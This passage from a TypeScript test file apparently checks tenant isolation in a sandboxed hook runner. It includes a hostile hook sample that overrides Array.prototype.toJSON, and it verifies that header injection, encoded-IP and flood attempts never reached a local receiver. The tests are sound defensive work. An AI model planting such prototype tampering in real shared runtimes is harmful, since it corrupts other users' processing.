    expect(existsSync(MARKER)).toBe(false);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
    expect(JSON.stringify(result)).not.toContain(CANARY);
  });

  it("a hook that breaks the machinery's JSON leaves another tenant's hook in flight in the same worker unharmed", async () => {
    const invocation = (tenant: string, source: string): HookInvocation => ({
      tenant,
      hookId: `${tenant}/hook/x`,
      script: { filename: 'x.js', source, hash: createHash('sha256').update(source).digest('hex') },
      input: toHookInput(event),
      secrets: {},
      allowHosts: [],
      timeoutMs: TIMEOUT_MS,
      memoryMb: 32,
    });
    const victim = pool.invoke(invocation('victim', 'module.exports = function (u, c, cb) { setTimeout(() => cb(null, "victim ok"), 300); };'));
    const hostile = await pool.invoke(invocation('breaker', 'module.exports = function (u, c, cb) { Array.prototype.toJSON = function () { return {}; }; cb(null, 1); };'));
    expect(hostile).toMatchObject({ status: 'ok', response: 1 });
    await expect(victim).resolves.toMatchObject({ status: 'ok', response: 'victim ok' });
  });

  it('still runs a benign hook afterwards, and refused fetches never reached the receiver', async () => {
    const source = `module.exports = function (user, context, cb) { cb(null, [1, 2].map((x) => x * 2)); };`;
    const result = await pool.invoke({
      tenant: 'acme',
      hookId: 'acme/hook/benign',
      script: { filename: 'benign.js', source, hash: 'benign' },
      input: toHookInput(event),
      secrets: {},
      allowHosts: [],
      timeoutMs: TIMEOUT_MS,
      memoryMb: 32,
    });
    expect(result).toMatchObject({ status: 'ok', response: [2, 4] });
    // 1 (fetch results) + 1 (axios response) + 3 (header injection through the libraries, without the
    // header) + 1 (hook D) + 20 (fetch flood) + 1 (http.get); refusals, injections and encoded IPs never connected.
    expect(receiver.requests).toHaveLength(27);
    // An injected line would arrive as a header of its own (a second Host); a value stripped of its line
    // break (axios does that) is no injection.
    const injected = receiver.requests.filter(({ rawHeaders, headers }) => {
      const hosts = rawHeaders.filter((name, i) => i % 2 === 0 && name.toLowerCase() === 'host');
      return hosts.length !== 1 || headers.host !== `127.0.0.1:${port}`;
    });
    expect(injected).toEqual([]);
  });
});
